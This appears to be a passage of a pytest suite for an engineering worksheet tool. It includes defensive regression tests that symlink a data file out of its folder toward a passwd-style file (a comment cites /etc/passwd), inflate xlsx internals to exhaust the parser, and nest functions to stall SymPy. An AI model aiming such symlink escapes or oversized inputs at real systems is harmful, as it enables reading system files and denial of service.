    vector = sw.sweep(sheet, vary, {"q": "y(0.7)"}, mode="vector").table
    serial = sw.sweep(sheet, vary, {"q": "y(0.7)"}, mode="serial").table
    assert vector.equals(serial)
    assert vector["error"].notna().tolist() == [False, False, False, True, False]


# -- files a worksheet reads: inside its folder after symlinks -------------------------------

DATA_FILE = """
[data.pump]
file = "FILE"
columns = { x = "m", y = "m" }
[inputs]
u = "1.5 m"
[definitions]
a = "linterp(x, y, u)"
"""


@pytest.mark.slow
@pytest.mark.parametrize("how", ["file", "folder"])
def test_a_link_out_of_the_worksheet_folder_is_refused_unread(tmp_path, how):
    # passwd_link.csv -> /etc/passwd was followed and its first line printed in the error
    outside = tmp_path / "outside"
    outside.mkdir()
    write(outside / "secret.csv", "x,y\nroot:x:0:0:root:/root:/bin/bash\n")
    sheet_dir = tmp_path / "sheet"
    sheet_dir.mkdir()
    if how == "file":
        (sheet_dir / "p.csv").symlink_to(outside / "secret.csv")
        name = "p.csv"
    else:
        (sheet_dir / "sub").symlink_to(outside, target_is_directory=True)
        name = "sub/secret.csv"
    write(sheet_dir / "d.toml", DATA_FILE.replace("FILE", name))
    out = cli(sheet_dir, "run", "d.toml", "--out", "d.xlsx")
    assert out.returncode == 2 and "outside the template's folder" in out.stderr, out.stderr
    assert ":0:0:" not in out.stderr and "d.toml:3" in out.stderr
    printed = '[inputs]\nR = "1 mm"\n[definitions]\nd = "2*R"\n[[printed]]\nfile = "NAME"\n'
    write(sheet_dir / "p.toml", printed.replace("NAME", name))
    out = cli(sheet_dir, "check", "p.toml")
    assert out.returncode == 2 and "outside the template's folder" in out.stderr, out.stderr
    assert ":0:0:" not in out.stderr


def test_a_link_inside_the_worksheet_folder_is_read(tmp_path):
    write(tmp_path / "measured.csv", "x,y\n1,10\n2,20\n")
    (tmp_path / "p.csv").symlink_to(tmp_path / "measured.csv")
    write(tmp_path / "d.toml", DATA_FILE.replace("FILE", "p.csv"))
    assert float(workbook.load(tmp_path / "d.toml").evaluate("a").to("m").magnitude) == 15.0


XMCD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<worksheet xmlns="http://schemas.mathsoft.com/worksheet30" '
    'xmlns:ml="http://schemas.mathsoft.com/math30"><regions>{}</regions></worksheet>'
)


def _references(path: Path, *names: str) -> None:
    regions = "".join(
        f'<region region-id="{k}" top="{k}" left="0"><reference/><link href="{n}"/></region>'
        for k, n in enumerate(names, start=1)
    )
    path.write_text(XMCD.format(regions), encoding="utf-8")


def test_two_references_to_one_file_are_not_a_cycle(tmp_path):
    # main -> a -> lib and main -> b -> lib was refused as "references itself in a cycle"
    from workbook.mathcad import MAX_REFERENCED_FILES, read, regions_with_references

    _references(tmp_path / "lib.xmcd")
    _references(tmp_path / "a.xmcd", "lib.xmcd")
    _references(tmp_path / "b.xmcd", "lib.xmcd")
    _references(tmp_path / "main.xmcd", "a.xmcd", "b.xmcd")
    assert regions_with_references(read(tmp_path / "main.xmcd")) == []
    _references(tmp_path / "lib.xmcd", "a.xmcd")  # now a real cycle: a -> lib -> a
    with pytest.raises(InputError, match="references itself in a cycle"):
        regions_with_references(read(tmp_path / "main.xmcd"))
    # diamonds stacked 7 deep include the last file 2^7 times: bounded by files read
    for k in range(7):
        _references(tmp_path / f"d{k}.xmcd", f"d{k + 1}.xmcd", f"d{k + 1}.xmcd")
    _references(tmp_path / "d7.xmcd")
    with pytest.raises(InputError, match=f"more than {MAX_REFERENCED_FILES} files"):
        regions_with_references(read(tmp_path / "d0.xmcd"))


# -- errors named where they happen ----------------------------------------------------------


@pytest.mark.parametrize("error", [MemoryError, RecursionError])
def test_memory_and_recursion_errors_name_the_definition(tmp_path, monkeypatch, error):
    # they fell through to the command line's last resort: no file, line or definition
    from workbook.engine import numeric

    text = '[inputs]\nR = "1 mm"\n[definitions]\na = "2*R"\nb = "3*a"\n'
    sheet = workbook.load(write(tmp_path / "m.toml", text))
    real = numeric.Evaluator.compile

    def compile_failing(self, t):
        fn = real(self, t)
        if "3" not in str(t):
            return fn

        def run(env):
            raise error()

        return run

    monkeypatch.setattr(numeric.Evaluator, "compile", compile_failing)
    with pytest.raises(LimitError) as err:
        sheet.evaluate("b")
    assert (err.value.definition, err.value.line) == ("b", 5)
    assert err.value.file == str(tmp_path / "m.toml")
    word = "too large for memory" if error is MemoryError else "nested too deeply"
    assert word in str(err.value)


def test_a_solve_using_a_definition_of_its_unknown_names_the_circle(tmp_path):
    # it recursed into Python's limit and said "nested too deeply"
    text = (
        '[inputs]\nR = "2 m"\n[[solve]]\nunknowns = { x = "1 m" }\nequations = ["d == R"]\n'
        '[definitions]\nd = { expr = "2*x", unit = "mm" }\nz = "x + d"\n'
    )
    out = cli(tmp_path, "run", str(write(tmp_path / "s.toml", text)), "--out", "s.xlsx")
    assert out.returncode == 2 and "circular definition: x -> d -> x" in out.stderr, out.stderr
    assert "in 'solve x'" in out.stderr
    fine = text.replace('"d == R"', '"2*x == R"')  # d and z use x after it is solved
    sheet = workbook.load(write(tmp_path / "s.toml", fine))
    assert float(sheet.evaluate("z").to("m").magnitude) == pytest.approx(3.0, rel=1e-9)


@pytest.mark.slow
def test_a_sweep_of_a_text_output_is_refused_at_load(tmp_path):
    # every case failed with a raw ValueError and the sweep exited 0
    write(tmp_path / "t.toml", INJECT_LABELS)
    args = ["--vary", "R=1mm,2mm", "--output", "q=v(0.5)", "--out", "s.csv"]
    out = cli(tmp_path, "sweep", "t.toml", *args)
    assert out.returncode == 2 and "must be a number, not a text" in out.stderr, out.stderr
    assert not (tmp_path / "s.csv").exists()


# -- the report shows the operator between two numbers ---------------------------------------


@pytest.mark.parametrize(
    "text",
    ["2*10^e", "2*10^(-3)*x", "2*(3/4)", "0.5*10^k", "3*2^n*a", "2*(10^e)", "4*1e3^x"],
)
def test_a_product_of_two_numbers_shows_its_operator(text):
    # 2*10^e was typeset with an invisible times: it read "210^e" in the concave-cam report
    from workbook.language import expr as ex
    from workbook.outputs.report.mathml import MathML

    xml = MathML().box(ex.parse(text)).xml
    opening = r"(?:<(?:mrow|msup|msub|msubsup|mfrac|mstyle|mpadded)(?:\s[^>]*)?>)*"
    assert not re.search("<mo>\u2062</mo>" + opening + "<mn", xml), xml
    assert "<mo>\u22c5</mo>" in xml


def test_a_number_before_a_name_keeps_the_invisible_times():
    from workbook.language import expr as ex
    from workbook.outputs.report.mathml import MathML

    for text in ("2*a", "0.5*x^2", "2*(a + b)", "2*sin(x)"):
        assert "<mo>\u2062</mo>" in MathML().box(ex.parse(text)).xml, text


# -- SymPy's work is bounded -------------------------------------------------------------------

NESTED = """
[arguments]
x = { unit = "" }
[definitions]
"f0(x)" = "sin(x)*exp(x)/(1 + x^2)"
"f1(x)" = "f0(f0(x))*f0(x)"
"f2(x)" = "f1(f1(x))*f1(x)"
"f3(x)" = "f2(f2(x))*f2(x)"
"f4(x)" = "f3(f3(x))*f3(x)"
"f5(x)" = "f4(f4(x))*f4(x)"
"g(x)" = "diff(FN(x), x)"
"""


@pytest.mark.slow
def test_diff_of_functions_nested_in_themselves_is_bounded(tmp_path, monkeypatch):
    # diff of ten such levels ran in SymPy for more than 60 s (3 levels: more than 120 s)
    from workbook.numerics import derivative

    sheet = workbook.load(write(tmp_path / "n.toml", NESTED.replace("FN", "f5")))
    with pytest.raises(LimitError, match=r"nodes with the functions it calls written out") as e:
        sheet.evaluate("g", x=0.3)
    assert e.value.definition == "g" and e.value.line == 11
    monkeypatch.setattr(derivative, "MAX_DIFF_SECONDS", 0.5)
    sheet = workbook.load(write(tmp_path / "n.toml", NESTED.replace("FN", "f3")))
    with pytest.raises(LimitError, match=r"SymPy's derivative .* took more than 0.5 s"):
        sheet.evaluate("g", x=0.3)
    with pytest.raises(LimitError, match="took more than 0.5 s"):  # remembered, not redone
        sheet.evaluate("g", x=0.4)
    # a small one is found as before: d/dx of f0 at 0.3
    sheet = workbook.load(write(tmp_path / "n.toml", NESTED.replace("FN", "f0")))
    x = 0.3
    expected = (np.cos(x) + np.sin(x)) * np.exp(x) / (1 + x**2) - np.sin(x) * np.exp(x) * 2 * x / (
        1 + x**2
    ) ** 2
    assert float(sheet.evaluate("g", x=x).magnitude) == pytest.approx(expected, rel=1e-12)


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_a_time_limit_survives_an_alarm_swallowed_by_a_weakref_callback():
    # SymPy's caches drop entries in weakref callbacks; an alarm landing there is printed and
    # ignored by Python, and a single alarm let the diff run on for minutes
    import weakref

    from workbook.limits_time import within_seconds

    class Cached:
        pass

    def busy(seconds: float) -> None:
        start = time.monotonic()
        while time.monotonic() - start < seconds:
            pass

    with pytest.raises(LimitError, match="spinning took more than 0.1 s"):
        with within_seconds(0.1, "spinning"):
            entry = Cached()
            weakref.finalize(entry, busy, 0.3)  # the first alarm lands in this callback
            del entry
            busy(30.0)


# -- --inputs bounded by what openpyxl parses ---------------------------------------------


def _swollen(src: Path, dst: Path, member: str, grow) -> Path:
    import zipfile

    with zipfile.ZipFile(src) as zi, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zo:
        for info in zi.infolist():
            data = zi.read(info)
            zo.writestr(info, grow(data) if info.filename == member else data)
    return dst


@pytest.mark.slow
def test_inputs_with_swollen_styles_or_shared_strings_are_refused_unparsed(tmp_path):
    # a 60 MB styles.xml took 57 s and 1.55 GB in openpyxl; 3.5 million shared strings 59 s
    from workbook.limits import MAX_SHARED_STRINGS, MAX_STYLES_BYTES

    write(tmp_path / "t.toml", INJECT_LABELS)
    assert cli(tmp_path, "run", "t.toml", "--out", "base.xlsx").returncode == 0
    base = tmp_path / "base.xlsx"
    fonts = b"<font><b/></font>" * (MAX_STYLES_BYTES // 17 + 1)
    styles = _swollen(
        base,
        tmp_path / "s.xlsx",
        "xl/styles.xml",
        lambda d: d.replace(b"</fonts>", fonts + b"</fonts>"),
    )
    out = cli(tmp_path, "run", "t.toml", "--inputs", str(styles), "--out", "o.xlsx")
    assert out.returncode == 2 and f"(limit {MAX_STYLES_BYTES:,})" in out.stderr, out.stderr
    many = b"<x:si><x:t>a</x:t></x:si>" * (MAX_SHARED_STRINGS + 1)
    strings = _swollen(
        base,
        tmp_path / "t.xlsx",
        "xl/sharedStrings.xml",
        lambda d: d.replace(b"</sst>", many + b"</sst>"),
    )
    out = cli(tmp_path, "run", "t.toml", "--inputs", str(strings), "--out", "o.xlsx")
    assert out.returncode == 2, out.stderr
    assert f"more than {MAX_SHARED_STRINGS:,} shared strings" in out.stderr
    # the workbook as written reads back
    assert cli(tmp_path, "run", "t.toml", "--inputs", str(base), "--out", "o.xlsx").returncode == 0


@pytest.mark.slow
@pytest.mark.parametrize(("n", "fits"), [(16_382, True), (16_383, False)])
def test_a_row_vector_at_the_last_column_is_written_whole_or_refused(tmp_path, n, fits):
    # a 1 x 20,001 result was cut at column XFD with exit 0
    text = (
        '[arguments]\nn = { unit = "" }\n[definitions]\n"wide(n)" = { program = """\n'
        'for k in 1 .. n\n    w[k] := k\ntranspose(w)\n""" }\n'
        f'x = "wide({n})"\n'
    )
    write(tmp_path / "w.toml", text)
    out = cli(tmp_path, "run", "w.toml", "--out", "w.xlsx")
    if not fits:
        assert out.returncode == 2 and f"x is 1 x {n + 1:,}" in out.stderr, out.stderr
        assert "refused rather than cut" in out.stderr and not (tmp_path / "w.xlsx").exists()
        return
    assert out.returncode == 0, out.stderr
    ws = openpyxl.load_workbook(tmp_path / "w.xlsx", read_only=True)["Matrices"]
    values = next(ws.iter_rows(min_row=2, max_row=2, values_only=True))
    assert len(values) == 16_384 and values[1] == 0 and values[-1] == n  # B2 .. XFD2


def test_a_report_names_a_huge_array_instead_of_showing_it(tmp_path):
    # a 2,000,001-element vector made a 90 MB report page
    from workbook.outputs.report import mathml as mm

    big = mm.matrix_box(np.zeros((mm.MAX_SHOWN_ELEMENTS + 1, 1)), "mm").xml
    assert "<mtable>" not in big and f"a vector of {mm.MAX_SHOWN_ELEMENTS + 1:,}" in big
    nested = np.empty((2, 1), dtype=object)
    nested[0, 0] = nested[1, 0] = np.zeros((mm.MAX_SHOWN_ELEMENTS // 2 + 1, 1))
    assert "not shown" in mm.matrix_box(nested, "").xml
    small = mm.matrix_box(np.arange(6.0).reshape(3, 2), "m").xml
    assert small.count("<mtd>") == 6 and "not shown" not in small


def test_a_reader_that_closes_the_output_ends_the_command_quietly():
    """``workbook list | head -1``: the pipe closed early is no internal error (141, as a
    shell's status of a command ended by SIGPIPE), and nothing is printed about it."""
    proc = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys; from workbook.cli import main; sys.exit(main(['list']))",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=dict(os.environ, PYTHONPATH=os.pathsep.join(sys.path)),
    )
    proc.stdout.close()  # before the command writes: every write then fails
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 141, err
    assert b"internal error" not in err and b"Traceback" not in err
